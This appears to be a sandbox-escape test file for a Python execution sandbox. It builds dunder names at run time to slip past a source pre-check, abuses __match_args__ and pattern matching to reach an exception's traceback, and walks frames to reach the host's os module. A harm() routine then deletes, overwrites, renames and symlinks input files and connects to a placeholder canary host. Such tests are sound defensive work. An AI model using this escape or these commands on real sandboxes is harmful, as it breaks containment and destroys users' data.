# attack: a class whose literal __match_args__ the pre-check accepts is rewritten at run time (setattr with a built name) so a positional class pattern on an exception that is also a Point reads its traceback -> frames -> the runner's globals -> the real os
# expect: contained:python
# unguarded: any
def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])


class Point:
    __match_args__ = ("x",)


class Boom(ZeroDivisionError, Point):
    """An exception that is also a Point, so `case Point(v)` may read its attributes."""


def dunder(*parts):
    return "_" * 2 + "".join(parts) + "_" * 2


# The literal passed the pre-check; rewrite it with a name the source never spells.
setattr(Point, dunder("match", "_args"), (dunder("trace", "back"),))
try:
    raise Boom("x")
except Boom as exc:
    match exc:
        case Point(tb):
            pass
frame = getattr(tb, "".join(["tb", "_frame"]))
while frame is not None:
    names = getattr(frame, "".join(["f", "_globals"]))
    if "os" in names and dunder("built", "ins") in names:
        harm(names["os"])
        break
    frame = getattr(frame, "".join(["f", "_back"]))
else:
    raise RuntimeError("walk found nothing")
